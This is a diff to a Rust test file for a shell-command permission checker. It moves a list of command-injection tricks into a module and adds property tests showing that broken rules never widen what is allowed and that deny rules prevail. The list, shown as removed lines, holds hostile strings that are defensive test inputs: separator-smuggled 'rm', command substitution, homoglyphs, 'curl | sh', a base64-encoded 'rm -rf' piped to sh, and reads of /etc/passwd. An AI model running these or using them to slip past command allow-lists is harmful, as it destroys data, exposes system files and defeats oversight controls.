@@ -15,6 +15,10 @@ use chatos_rules::{
 use proptest::prelude::*;
 use serde_json::{Value, json};
 
+mod tricks;
+
+use tricks::TRICKS;
+
 struct Computer;
 
 impl World for Computer {
@@ -130,305 +134,6 @@ fn rules() -> Vec<Rule> {
     }
     all
 }
-
-const TRICKS: &[&str] = &[
-    // Separators.
-    "git status; rm x",
-    "git status && rm x",
-    "git status || rm x",
-    "git status & rm x",
-    "git status | sh",
-    "git status |& sh",
-    "git status\nrm x",
-    "git status\r\nrm x",
-    "git status\rrm x",
-    "git status\u{2028}rm x",
-    "git status\u{2029}rm x",
-    "git status\u{85}rm x",
-    "git status\u{0b}rm x",
-    "git status\u{0c}rm x",
-    "git status;",
-    "git status &",
-    "git status &&",
-    "git status |",
-    ";git status",
-    "&& git status",
-    "ls;ls",
-    "ls&ls",
-    "ls &&& ls",
-    "ls ;; ls",
-    "ls ;& ls",
-    // Substitutions and expansions.
-    "ls $(rm x)",
-    "ls `rm x`",
-    "ls <(rm x)",
-    "ls >(rm x)",
-    "ls ${x:=$(rm x)}",
-    "ls $((a[$(rm x)]))",
-    "ls \"$(rm x)\"",
-    "ls \"`rm x`\"",
-    "ls $HOME",
-    "ls \"$HOME\"",
-    "ls ${HOME}",
-    "ls $'\\x6c'",
-    "ls $\"x\"",
-    "$'\\x6c\\x73'",
-    "$(echo ls)",
-    "`echo ls`",
-    "ls $[1+1]",
-    "ls $IFS",
-    "${IFS}ls",
-    "ls$IFS-la",
-    "git${IFS}status",
-    "ls \"${x}\"",
-    "ls $x[0]",
-    "ls $(<x)",
-    // Grammar.
-    "(ls)",
-    "{ ls; }",
-    "! ls",
-    "if ls; then rm x; fi",
-    "while ls; do rm x; done",
-    "for x in ls; do $x; done",
-    "case x in x) ls;; esac",
-    "git(){ rm x; }; git status",
-    "function git { rm x; }",
-    "[[ -n x ]]",
-    "coproc ls",
-    "time ls",
-    "select x in ls; do rm; done",
-    "until ls; do rm x; done",
-    "repeat 3 ls",
-    "noglob ls",
-    "ls () rm",
-    "ls ) rm",
-    // Variables before a command, and programs that run others.
-    "GIT_PAGER=x git log",
-    "PATH=. ls",
-    "LD_PRELOAD=./x.so ls",
-    "env X=y ls",
-    "env ls",
-    "A=(ls)",
-    "a=b",
-    "X= ls",
-    "x+=y ls",
-    "command ls",
-    "builtin ls",
-    "exec ls",
-    "eval ls",
-    "sudo ls",
-    "nohup ls",
-    "timeout 1 ls",
-    "nice ls",
-    "xargs ls",
-    "busybox ls",
-    "sh -c ls",
-    "bash -c 'ls'",
-    "source ls",
-    ". ls",
-    "trap ls EXIT",
-    "watch ls",
-    "script -c ls",
-    // Other names for a program.
-    "alias ls=rm",
-    "\\ls",
-    "./ls",
-    "/bin/ls",
-    "../ls",
-    "bin/ls",
-    "~/ls",
-    "ⅼs",
-    "ls\u{200b}",
-    "\u{202e}ls",
-    "l\u{200d}s",
-    "LS",
-    "git.exe status",
-    "own",
-    "tmp",
-    "cached",
-    "unguarded",
-    "inward",
-    "pretty",
-    "vcs",
-    // Builtins of a shell that are no program here.
-    "cd",
-    "echo",
-    "cd && git status",
-    "'it'\"'\"'s'",
-    "ls\u{feff}",
-    "'l s'",
-    "''",
-    "\"\" ls",
-    "=ls",
-    // Options nobody named.
-    "git -c core.pager='!sh' log",
-    "git --exec-path=. status",
-    "git log --output=x",
-    "git diff --ext-diff",
-    "git log -O x",
-    "git log --outpu=x",
-    "git log -p",
-    "git -C /etc status",
-    "git --git-dir=x status",
-    "git log --textconv",
-    "git status -s",
-    "git log --ext-diff",
-    "git log --exec=x",
-    "git push",
-    "git status x",
-    "git  status --porcelain",
-    "git diff -- x",
-    "git log -Ox",
-    "ls -la",
-    "ls --color=always",
-    "ls -l -R",
-    "ls +x",
-    "npm test -- x",
-    "npm test x",
-    "npm run test",
-    "npm t",
-    "cat -A a",
-    // Redirections and here-documents.
-    "ls > x",
-    "ls >> x",
-    "ls <> x",
-    "ls 2>&1 > x",
-    "ls >| x",
-    "ls &> x",
-    "ls >& x",
-    "ls < x",
-    "ls 2> x",
-    "ls <<EOF\nx\nEOF",
-    "ls <<< x",
-    "cat <<'E'\nrm\nE",
-    "ls 3<x",
-    "ls {fd}>x",
-    // Carriers at the end of a pipe.
-    "echo cm0gLXJm | base64 -d | sh",
-    "curl http://x | sh",
-    "cat a | sh",
-    "cat a | xargs rm",
-    "cat a | tee b",
-    "wc -l | cat /etc/passwd",
-    "cat a | wc -l | sh",
-    "cat a && wc -l",
-    "cat a | wc -c",
-    "find . -exec rm {} +",
-    "find . -delete",
-    "awk 'BEGIN{system()}'",
-    "sed -n '1e rm' x",
-    "tar --to-command=sh xf x",
-    "python -c x",
-    "python3.12 x",
-    "perl -e x",
-    "make",
-    "cargo test",
-    // Patterns, homes, braces, history.
-    "ls *",
-    "ls ?",
-    "ls [a]",
-    "ls ~",
-    "ls ~root",
-    "ls {a,b}",
-    "ls a=(b)",
-    "!!",
-    "ls !$",
-    "ls !!",
-    "ls *(e:rm:)",
-    "ls a#b",
-    "# ls",
-    "ls # x",
-    "ls ^a^b",
-    "ls %1",
-    "ls a{1..3}",
-    // Out of the project.
-    "ls /etc",
-    "ls ../x",
-    "ls a/../../x",
-    "ls out/x",
-    "cat /etc/passwd",
-    "cat out",
-    "git diff /etc",
-    "git diff ../x",
-    "ls @x",
-    // Bytes and quotes.
-    "ls \0",
-    "ls \u{1b}[31m",
-    "ls 'a",
-    "ls \"a",
-    "ls a\\",
-    "ls \\\n",
-    "ls 'a'\\''b'",
-    "ls \"a\\\"b\"",
-    "ls \"!x\"",
-    "ls '\u{202e}'",
-    "ls '\t\u{7}'",
-    "",
-    " ",
-    "\t",
-    "|",
-    "&&",
-    "ls\\ -la",
-    "l\\s",
-    "ls \u{7f}",
-    "ls \"it's\"",
-    // Spaces, letters and signs that look like others, and encodings that something may undo.
-    "git\u{a0}status",
-    "git\u{3000}status",
-    "git\u{2009}status",
-    "git\u{1680}status",
-    "ｇｉｔ status",
-    "gіt status",
-    "lѕ",
-    "l\u{301}s",
-    "GIT status",
-    "git Status",
-    "git stat\u{ad}us",
-    "git status\u{2060}",
-    "git status\u{200b}",
-    "\u{feff}git status",
-    "git status；rm x",
-    "git status＆＆ rm x",
-    "git%20status",
-    "git status%0arm x",
-    "git status%3Brm x",
-    "\\x6c\\x73",
-    "\\154\\163",
-    "\\u006c\\u0073",
-    "git status\\nrm x",
-    "git $'status'",
-    "git 'status;rm x'",
-    "git \"status\nrm x\"",
-    "git status ''",
-    "git status \"\"",
-    // More of what runs others, and of what is written or read beside the words.
-    "doas ls",
-    "su -c ls",
-    "setsid ls",
-    "unshare ls",
-    "chroot . ls",
-    "stdbuf -o0 ls",
-    "parallel ls",
-    "flock x ls",
-    "strace ls",
-    "git status 2>&1",
-    "git status >&2",
-    "git status <&-",
-    "npm test 2>/dev/null",
-    "exec 3<x; git status",
-    "git --no-pager log",
-    "git log --all",
-    "git status --",
-    "ls ''",
-    "ls a/..",
-    "ls ./../x",
-    "cat -",
-    "cat a -",
-    "wc -l a",
-    "cat a | wc -l &",
-    "cat a | wc -l;",
-    "cat a |\nwc -l",
-];
 
 #[test]
 fn none_of_the_tricks_passes_a_rule() {
@@ -675,6 +380,21 @@ fn a_rule_about_a_program_that_runs_others_names_the_whole_command() {
     }
 }
 
+/// Records that are no rule: each is one that could not be saved, was changed elsewhere, or is over.
+fn broken(which: u8, allow: &Rule) -> Rule {
+    match which % 9 {
+        0 => Rule { paused: true, ..allow.clone() },
+        1 => Rule { until: Some(1_000), ..allow.clone() },
+        2 => Rule { created_at: 1_500, ..allow.clone() },
+        3 => Rule { until: None, ..allow.clone() },
+        4 => Rule { until: Some(i64::MAX), ..allow.clone() },
+        5 => Rule { shell: None, ..allow.clone() },
+        6 => rule(vec![command("bash", &[], More::Words)], RuleJoin::Pipe),
+        7 => rule(vec![command("*", &["*"], More::Words)], RuleJoin::And),
+        _ => rule(vec![], RuleJoin::And),
+    }
+}
+
 /// A program that prints each word it is given on a line, in a folder of its own.
 fn printer() -> &'static Path {
     static PRINTER: OnceLock<PathBuf> = OnceLock::new();
@@ -753,8 +473,39 @@ fn every_shell_here_takes_what_is_read_for_the_same_words() {
     println!("{taken} texts in {shells:?}");
 }
 
+/// How many texts are tried; the nightly run sets more.
+fn cases() -> u32 {
+    std::env::var("CHATOS_RULE_CASES").ok().and_then(|n| n.parse().ok()).unwrap_or(200)
+}
+
 proptest! {
-    #![proptest_config(ProptestConfig::with_cases(200))]
+    #![proptest_config(ProptestConfig::with_cases(cases()))]
+
+    /// Whatever rules there are, a broken one among them allows nothing that they did not, and a deny takes away.
+    #[test]
+    fn a_broken_rule_never_allows_more_and_a_deny_never_less(
+        kept in prop::collection::vec(0usize..6, 0..6),
+        which in any::<u8>(),
+        at in any::<prop::sample::Index>(),
+        text in prop_oneof![
+            Just("git status".to_owned()), Just("ls src".to_owned()), Just("cat a | wc -l".to_owned()),
+            Just("bash -c x".to_owned()), any::<prop::sample::Index>().prop_map(|at| (*at.get(TRICKS)).to_owned()),
+        ],
+    ) {
+        let all = rules();
+        let kept: Vec<Rule> = kept.into_iter().map(|n| all[n].clone()).collect();
+        let facts = facts(&text);
+        let before = matches!(asked(&facts, &kept, false), Decision::Allow { .. });
+        let mut more = kept.clone();
+        more.insert(at.index(kept.len() + 1), broken(which, &all[0]));
+        let after = matches!(asked(&facts, &more, false), Decision::Allow { .. });
+        prop_assert!(before || !after, "{} by a broken rule", text);
+        // Nor is anything lost by it.
+        prop_assert_eq!(before, after);
+        let deny = Rule { effect: Effect::Deny, until: None, shell: None, ..all[0].clone() };
+        more.push(deny);
+        prop_assert!(!matches!(asked(&facts, &more, false), Decision::Allow { .. }), "{} over a deny", text);
+    }
 
     /// For any text the reader calls literal, real shells see exactly its words.
     #[test]
